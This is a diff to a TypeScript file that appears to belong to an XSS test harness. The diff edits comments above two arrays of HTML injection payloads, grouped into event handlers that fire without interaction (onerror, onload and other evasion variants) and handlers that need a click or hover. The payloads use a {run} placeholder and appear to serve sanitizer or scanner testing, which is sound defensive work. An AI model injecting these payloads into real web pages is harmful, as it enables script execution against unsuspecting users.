@@ -1,6 +1,6 @@
 import { vectors, type Vector } from './vector.ts';
 
-/** Handlers that fire by themselves, with what makes them fire. */
+/** Handlers that fire without interaction, with what makes them fire. */
 const FIRING = [
   '<img src=x onerror={run}>', '<img src=data:, onerror="{run}">', '<IMG SRC=x OnErRoR={run}>', '<img/src=x/onerror={run}>', '<img\nsrc=x\nonerror\n=\n{run}>', '<img src="x"onerror={run}>',
   "<img src='x'onerror='{run}'>", '<img src=x onerror=&#97;lert&#40;{run}&#41;>', '<img src=data:image/gif;base64,R0lGODlhAQABAAAAACw= onload={run}>', '<image src=x onerror={run}>',
@@ -19,7 +19,7 @@ const FIRING = [
   '<div onpointerrawupdate={run}>x</div>', '<canvas onwebglcontextcreationerror={run}></canvas>', '<div onsecuritypolicyviolation={run} style="color:red">x</div>', '<slot onslotchange={run}></slot>', '<html onload={run}><body>',
 ];
 
-/** Handlers that wait for the person; the run points at, presses and focuses what it can. */
+/** Handlers that need interaction; the run hovers, presses and focuses what it can. */
 const WAITING = [
   '<p onclick={run}>press me</p>', '<p onmouseover={run}>point at me</p>', '<p onpointerenter={run}>point at me</p>', '<b onmousemove={run}>x</b>', '<i oncopy={run}>x</i>', '<b onselectstart={run}>x</b>', '<b draggable=true ondragstart={run}>x</b>',
   '<b onwheel={run}>x</b>', '<b oncontextmenu={run}>x</b>', '<input onkeydown={run} value=x>', '<button onclick={run}>Approve</button>', '<label onclick={run}>x<input type=checkbox></label>', '<button commandfor=c command=show-modal>x</button><dialog id=c onbeforetoggle={run}>x</dialog>',
